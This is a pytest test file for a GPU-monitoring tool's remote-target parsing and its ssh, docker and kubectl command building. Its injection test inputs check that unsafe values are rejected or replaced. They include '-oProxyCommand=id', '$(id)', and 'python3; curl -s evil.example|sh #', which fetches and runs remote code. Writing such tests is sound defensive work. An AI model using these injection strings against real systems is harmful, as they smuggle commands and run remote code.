"""What a person names: processes here, processes there, nothing that ssh takes for an option."""

import shlex
import subprocess

import pytest

from gpuwatch.tui.errors import UsageError
from gpuwatch.tui.remote.places import Place, Target, search, target_of
from tests.processes.command_line import ROOT


@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("48213", Target(None, 48213)),
        ("node7:48213", Target(Place("node7"), 48213)),
        ("ann@node7.cluster:48213", Target(Place("ann@node7.cluster"), 48213)),
        ("[fe80::1%eth0]:48213", Target(Place("fe80::1%eth0"), 48213)),
        ("node7:", Target(Place("node7"), None)),
        ("[::1]", Target(Place("::1"), None)),
    ],
)
def test_a_target(text: str, target: Target) -> None:
    assert target_of(text, None) == target


@pytest.mark.parametrize("text", ["-oProxyCommand=id:1", "a b:1", "$(id):1", "node7:0", ":5"])
def test_no_target(text: str) -> None:
    with pytest.raises(UsageError):
        target_of(text, None)


def test_a_command_takes_the_place_of_ssh() -> None:
    place = target_of("48213", "kubectl exec -i 'my pod' --").place
    assert place is not None
    words = place.command(48213)
    assert words[:5] == ["kubectl", "exec", "-i", "my pod", "--"]
    assert words[5:7] == ["sh", "-c"]
    shell = target_of("48213", "sh -c").place
    assert shell is not None
    assert shell.command(48213)[:2] == ["sh", "-c"]
    assert len(shell.command(48213)) == 3


def test_ssh_asks_nobody_while_a_screen_is_up(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GPUWATCH_SSH", "ssh -F 'my config'")
    assert Place("node7").command(1)[:3] == ["ssh", "-F", "my config"]
    assert "BatchMode=yes" not in Place("node7").command(1)
    assert "BatchMode=yes" in Place("node7").command(1, asks=False)


def test_the_search_survives_any_login_shell_s_quotes() -> None:
    script = search(48213)
    assert "'" not in script
    assert "\n" not in script
    assert subprocess.run(["sh", "-n", "-c", script], check=False).returncode == 0
    assert subprocess.run(["bash", "-n", "-c", script], check=False).returncode == 0


PIP = ["/opt/env/bin/python3", "-m", "pip", "install", "git+<clone URL>"]


def test_the_command_that_installs_is_the_readmes_and_a_shell_there_reads_it_as_meant() -> None:
    over_ssh = shlex.split(Place("node7").install("/opt/env/bin/python3"))
    assert over_ssh[:2] == ["ssh", "node7"]
    assert shlex.split(over_ssh[2]) == PIP
    in_a_shell = shlex.split(Place("", ("docker", "exec", "C", "sh", "-c")).install(PIP[0]))
    assert in_a_shell[:5] == ["docker", "exec", "C", "sh", "-c"]
    assert shlex.split(in_a_shell[5]) == PIP
    in_none = shlex.split(Place("", ("kubectl", "exec", "my pod", "--")).install(PIP[0]))
    assert in_none == ["kubectl", "exec", "my pod", "--", *PIP]
    readme = (ROOT / "README.md").read_text()
    assert 'pip install "git+<clone URL>"' in readme


@pytest.mark.parametrize(
    "said",
    [
        "",
        "python3; curl -s evil.example|sh #",
        "/bin/python3 $(id)",
        "/bin/python3;id",
        "/bin/'python3",
        "/bin/python3\nid",
        "-oProxyCommand=id",
    ],
)
def test_what_is_no_plain_path_of_a_python_is_not_repeated_in_a_command(said: str) -> None:
    for place in (Place("node7"), Place("", ("docker", "exec", "C"))):
        assert place.install(said) == place.install("python3")
        assert " python3 -m pip" in place.install(said).replace("'", " ")
